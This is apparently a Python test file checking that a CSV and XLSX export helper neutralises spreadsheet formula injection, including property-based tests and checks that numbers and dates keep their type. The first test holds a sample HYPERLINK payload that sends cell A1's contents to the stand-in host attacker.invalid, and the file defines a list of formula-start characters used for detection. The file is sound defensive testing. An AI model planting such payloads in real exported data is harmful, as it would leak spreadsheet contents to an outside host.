"""Every CSV export goes through one writer that a spreadsheet opens as data, never as formulas."""

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from xblocks.common.csv_safe import csv_writer, spreadsheet_cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def _read_back(rows):
    out = io.StringIO()
    csv_writer(out).writerows(rows)
    return list(csv.reader(io.StringIO(out.getvalue())))


def test_the_reported_payload_comes_out_as_text():
    payload = '=HYPERLINK("http://attacker.invalid/?"&A1,"Bấm vào đây")'
    [[cell]] = _read_back([[payload]])
    assert cell == "'" + payload


def test_numbers_stay_numbers():
    assert _read_back([[3, -2, 0.6667, "-0.1234", "12"]]) == [["3", "-2", "0.6667", "-0.1234", "12"]]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.none()), max_size=6))
def test_no_written_cell_can_start_a_formula(row):
    [written] = _read_back([row]) if row else [[]]
    for value, cell in zip(row, written, strict=True):
        if isinstance(value, str) and cell.lstrip(" ").startswith(FORMULA_STARTS):
            # only a plain number may start with "-" or "+"
            assert cell.lstrip("-").replace(".", "", 1).isdigit(), cell
        if isinstance(value, str) and not value.lstrip(" ").startswith(FORMULA_STARTS):
            assert cell == value  # ordinary text is untouched


def test_none_and_bool_cells():
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell(True) == "True"
    assert spreadsheet_cell(" =1+1") == "' =1+1"


def test_xlsx_cells_are_defused_like_csv_cells_and_numbers_and_dates_keep_their_type():
    import datetime as dt
    import io

    from openpyxl import load_workbook

    from xblocks.common.csv_safe import xlsx_bytes

    data = xlsx_bytes(["Đơn vị", "Số", "Hạn"], [["=HYPERLINK(\"http://x\",\"Bấm\")", 12, dt.date(2026, 12, 31)],
                                                ["@SUM(A1)", -3.5, None]])
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [list(row) for row in sheet.iter_rows()]
    assert [cell.value for cell in cells[0]] == ["Đơn vị", "Số", "Hạn"]
    assert cells[1][0].value == "'=HYPERLINK(\"http://x\",\"Bấm\")" and cells[1][0].data_type == "s"
    assert cells[2][0].value == "'@SUM(A1)"
    assert (cells[1][1].value, cells[2][1].value) == (12, -3.5)
    assert cells[1][2].value.date() == dt.date(2026, 12, 31) and cells[1][2].number_format == "DD/MM/YYYY"
    assert cells[2][2].value is None
